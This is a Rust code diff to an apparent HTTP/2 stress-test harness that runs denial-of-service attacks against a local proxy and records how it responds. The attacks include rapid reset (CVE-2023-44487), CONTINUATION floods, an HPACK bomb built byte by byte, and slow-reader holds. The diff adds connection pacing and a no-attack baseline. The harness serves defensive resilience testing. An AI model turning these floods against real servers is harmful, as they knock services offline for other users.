@@ -4,9 +4,8 @@
 //! a large answer (a stream never read, a slow reader). What each connection met is kept.
 
 use std::collections::BTreeMap;
-use std::io::{Read, Write};
+use std::io::{ErrorKind, Read, Write};
 use std::net::{Ipv4Addr, Shutdown, TcpStream};
-use std::sync::{Arc, Mutex};
 use std::thread;
 use std::time::{Duration, Instant};
 
@@ -15,6 +14,9 @@ use super::frames::*;
 /// The attacks, in the order they run.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, clap::ValueEnum)]
 pub enum Attack {
+    /// No attack: connections alone (the preface and SETTINGS, then closed), at the attacks'
+    /// pace, for what the connections themselves cost the others.
+    Connections,
     /// Streams opened and reset at once (CVE-2023-44487).
     RapidReset,
     /// Streams opened, let reach the server for 5 ms, then reset.
@@ -30,7 +32,8 @@ pub enum Attack {
     Priority,
     /// An HPACK dynamic table size update above the advertised size.
     HpackTableSize,
-    /// One large field put in the HPACK table and referred to by one byte, over and over.
+    /// One large field put in the HPACK table and referred to by one byte, over and over, in
+    /// the same block.
     HpackBomb,
     /// A 1 MiB answer asked with a window of 0, never read.
     NeverRead,
@@ -39,7 +42,8 @@ pub enum Attack {
 }
 
 impl Attack {
-    pub const ALL: [Attack; 12] = [
+    pub const ALL: [Attack; 13] = [
+        Attack::Connections,
         Attack::RapidReset,
         Attack::RapidResetServed,
         Attack::Continuation,
@@ -56,6 +60,7 @@ impl Attack {
 
     pub fn name(self) -> &'static str {
         match self {
+            Attack::Connections => "connections alone (no attack)",
             Attack::RapidReset => "rapid reset",
             Attack::RapidResetServed => "rapid reset after 5 ms",
             Attack::Continuation => "CONTINUATION flood",
@@ -75,6 +80,11 @@ impl Attack {
     /// nothing) rather than floods it until GOAWAY.
     pub fn holds(self) -> bool {
         matches!(self, Attack::NeverRead | Attack::SlowReader)
+    }
+
+    /// Whether it sends frames until herdsman ends it (and so has frames to count).
+    pub fn floods(self) -> bool {
+        !self.holds() && self != Attack::Connections
     }
 
     /// Frames written between two looks at whether the GOAWAY came.
@@ -122,16 +132,6 @@ impl Attack {
                 block.extend_from_slice(&[b'a'; 100]);
                 bytes.extend(frame(HEADERS, END_STREAM, 1, &block));
             }
-            Attack::HpackBomb => {
-                bytes.extend(settings(&[]));
-                // A 4,000-byte field into the dynamic table, on a first stream.
-                let mut block = get_block(GET, "/");
-                block.extend_from_slice(&[0x40, 6]);
-                block.extend_from_slice(b"x-bomb");
-                hpack_int(0, 7, 4000, &mut block);
-                block.extend_from_slice(&[b'a'; 4000]);
-                bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, 1, &block));
-            }
             _ => bytes.extend(settings(&[])),
         }
         bytes
@@ -174,12 +174,18 @@ impl Attack {
                 frame(HEADERS, END_STREAM | END_HEADERS, stream(i + 1), &block)
             }
             Attack::HpackBomb => {
-                // Each stream's block refers to the field 100 times: some 400 KB decoded.
+                // A 4,000-byte field into the dynamic table (index 62), then referred to by one
+                // byte a hundred times: some 400 KB decoded from 4 KB, in one block, so no
+                // ordinary request comes first.
                 let mut block = get_block(GET, "/");
+                block.extend_from_slice(&[0x40, 6]);
+                block.extend_from_slice(b"x-bomb");
+                hpack_int(0, 7, 4000, &mut block);
+                block.extend_from_slice(&[b'a'; 4000]);
                 block.extend_from_slice(&[0xbe; 100]);
-                frame(HEADERS, END_STREAM | END_HEADERS, stream(i + 1), &block)
+                frame(HEADERS, END_STREAM | END_HEADERS, stream(i), &block)
             }
-            Attack::NeverRead | Attack::SlowReader => Vec::new(),
+            Attack::Connections | Attack::NeverRead | Attack::SlowReader => Vec::new(),
         }
     }
 }
@@ -217,13 +223,38 @@ impl AttackTally {
     }
 }
 
-/// Runs `attack` against 127.0.0.1:`port` until `until`, one connection at a time.
-pub fn run(attack: Attack, port: u16, until: Instant) -> AttackTally {
+/// Runs `attack` against 127.0.0.1:`port` until `until`, one connection at a time, each opened
+/// as soon as the last ended but no sooner than `gap` after the last opened: a reconnect loop
+/// without a pace is a connection flood, whose cost to the others is the kernel's (and any
+/// proxy's) whatever HTTP/2 it carries.
+pub fn run(attack: Attack, port: u16, until: Instant, gap: Duration) -> AttackTally {
     let mut tally = AttackTally::default();
-    while Instant::now() < until {
+    let mut next = Instant::now();
+    loop {
+        thread::sleep(next.saturating_duration_since(Instant::now()));
+        // The next no sooner than `gap` after this one: at once after one that lasted longer,
+        // with no burst to catch up.
+        let now = Instant::now();
+        if now >= until {
+            break;
+        }
+        next = now + gap;
         let ending = match TcpStream::connect((Ipv4Addr::LOCALHOST, port)) {
+            Ok(mut conn) if attack == Attack::Connections => {
+                let _ = conn.write_all(&attack.opening());
+                let _ = conn.shutdown(Shutdown::Both);
+                Ending {
+                    how: "closed by the attacker".into(),
+                    frames: 0,
+                    took: Duration::ZERO,
+                }
+            }
             Ok(conn) if attack.holds() => hold(attack, conn, until),
-            Ok(conn) => flood(attack, conn, until),
+            Ok(conn) => {
+                // As an attacker would: each batch goes at once, not held back by Nagle.
+                let _ = conn.set_nodelay(true);
+                flood(attack, conn, until)
+            }
             Err(e) => Ending {
                 how: format!("connect failed: {}", e.kind()),
                 frames: 0,
@@ -235,69 +266,66 @@ pub fn run(attack: Attack, port: u16, until: Instant) -> AttackTally {
     tally
 }
 
-/// What the reader of a connection saw: the first GOAWAY and the first RST_STREAM, each with when,
+/// What a connection's reader saw: the first GOAWAY and the first RST_STREAM, each with when,
 /// and whether the proxy closed.
-#[derive(Default, Clone)]
+#[derive(Default)]
 struct Seen {
     goaway: Option<(String, Instant)>,
     reset: Option<(String, Instant)>,
     closed: bool,
+    /// Read and not yet a whole frame.
+    unread: Vec<u8>,
 }
 
-/// Reads the proxy's frames on `conn` until it closes, noting the first GOAWAY and RST_STREAM.
-fn watch(mut conn: TcpStream) -> (Arc<Mutex<Seen>>, thread::JoinHandle<()>) {
-    let seen = Arc::new(Mutex::new(Seen::default()));
-    let reader = {
-        let seen = Arc::clone(&seen);
-        thread::spawn(move || {
-            let (mut bytes, mut chunk) = (Vec::new(), vec![0u8; 65_536]);
-            loop {
-                let n = match conn.read(&mut chunk) {
-                    Ok(0) | Err(_) => break,
-                    Ok(n) => n,
-                };
-                bytes.extend_from_slice(&chunk[..n]);
-                let mut frames = Vec::new();
-                let used = parse_frames(&bytes, &mut frames);
-                bytes.drain(..used);
-                let mut seen = seen.lock().unwrap();
-                for frame in frames {
-                    let code = code_name(frame.error_code().unwrap_or(u32::MAX));
-                    let slot = match frame.kind {
-                        GOAWAY => &mut seen.goaway,
-                        RST_STREAM => &mut seen.reset,
-                        _ => continue,
-                    };
-                    let kind = if frame.kind == GOAWAY {
-                        "GOAWAY"
-                    } else {
-                        "RST_STREAM"
-                    };
-                    slot.get_or_insert_with(|| (format!("{kind} {code}"), Instant::now()));
-                }
+impl Seen {
+    /// Reads the proxy's frames on `conn` for `time` (the pause between two batches, so the
+    /// attacker needs no second thread to read), noting the first GOAWAY and RST_STREAM.
+    fn read_for(&mut self, conn: &mut TcpStream, time: Duration) {
+        let deadline = Instant::now() + time;
+        let mut chunk = [0u8; 16_384];
+        while !self.closed {
+            let left = deadline.saturating_duration_since(Instant::now());
+            if left.is_zero() || conn.set_read_timeout(Some(left)).is_err() {
+                return;
             }
-            seen.lock().unwrap().closed = true;
-        })
-    };
-    (seen, reader)
+            let n = match conn.read(&mut chunk) {
+                Ok(0) => {
+                    self.closed = true;
+                    return;
+                }
+                Ok(n) => n,
+                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => return,
+                Err(_) => {
+                    self.closed = true;
+                    return;
+                }
+            };
+            self.unread.extend_from_slice(&chunk[..n]);
+            let mut frames = Vec::new();
+            let used = parse_frames(&self.unread, &mut frames);
+            self.unread.drain(..used);
+            for frame in frames {
+                let code = code_name(frame.error_code().unwrap_or(u32::MAX));
+                let (slot, kind) = match frame.kind {
+                    GOAWAY => (&mut self.goaway, "GOAWAY"),
+                    RST_STREAM => (&mut self.reset, "RST_STREAM"),
+                    _ => continue,
+                };
+                slot.get_or_insert_with(|| (format!("{kind} {code}"), Instant::now()));
+            }
+        }
+    }
 }
 
 /// One flooding connection: frames (in batches a millisecond apart) until GOAWAY, the proxy's
 /// close, a failed write, or `until`.
 fn flood(attack: Attack, mut conn: TcpStream, until: Instant) -> Ending {
     let started = Instant::now();
-    let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
-    let (seen, reader) = watch(conn.try_clone().expect("a second handle on the socket"));
+    let mut seen = Seen::default();
     let mut frames = 0;
     let mut i = 0;
     let mut written = conn.write_all(&attack.opening()).is_ok();
-    while written && Instant::now() < until {
-        {
-            let seen = seen.lock().unwrap();
-            if seen.goaway.is_some() || seen.closed {
-                break;
-            }
-        }
+    while written && Instant::now() < until && seen.goaway.is_none() && !seen.closed {
         let bytes: Vec<u8> = (i..i + attack.batch())
             .flat_map(|i| attack.frame(i))
             .collect();
@@ -306,13 +334,11 @@ fn flood(attack: Attack, mut conn: TcpStream, until: Instant) -> Ending {
         if written {
             frames += count_frames(&bytes);
         }
-        thread::sleep(Duration::from_millis(1));
+        seen.read_for(&mut conn, Duration::from_millis(1));
     }
     // A connection the end of the attack cut is "open at the end", not closed by the proxy.
     let cut = Instant::now() >= until;
     let _ = conn.shutdown(Shutdown::Both);
-    let _ = reader.join();
-    let seen = seen.lock().unwrap().clone();
     ending(seen.goaway, seen.closed && !cut, frames, started)
 }
 
@@ -336,14 +362,11 @@ fn ending(end: Option<(String, Instant)>, closed: bool, frames: usize, started: 
 /// stream, sends GOAWAY or closes, or `until`.
 fn hold(attack: Attack, mut conn: TcpStream, until: Instant) -> Ending {
     let started = Instant::now();
-    let (seen, reader) = watch(conn.try_clone().expect("a second handle on the socket"));
+    let mut seen = Seen::default();
     let mut written = conn.write_all(&attack.opening()).is_ok();
     while written && Instant::now() < until {
-        {
-            let seen = seen.lock().unwrap();
-            if seen.reset.is_some() || seen.goaway.is_some() || seen.closed {
-                break;
-            }
+        if seen.reset.is_some() || seen.goaway.is_some() || seen.closed {
+            break;
         }
         if attack == Attack::SlowReader {
             let grant = [
@@ -353,11 +376,8 @@ fn hold(attack: Attack, mut conn: TcpStream, until: Instant) -> Ending {
             .concat();
             written = conn.write_all(&grant).is_ok();
         }
-        thread::sleep(Duration::from_millis(50));
+        seen.read_for(&mut conn, Duration::from_millis(50));
     }
-    // What it met by now; the close that follows is ours.
-    let now = seen.lock().unwrap().clone();
     let _ = conn.shutdown(Shutdown::Both);
-    let _ = reader.join();
-    ending(now.reset.or(now.goaway), now.closed, 0, started)
+    ending(seen.reset.or(seen.goaway), seen.closed, 0, started)
 }
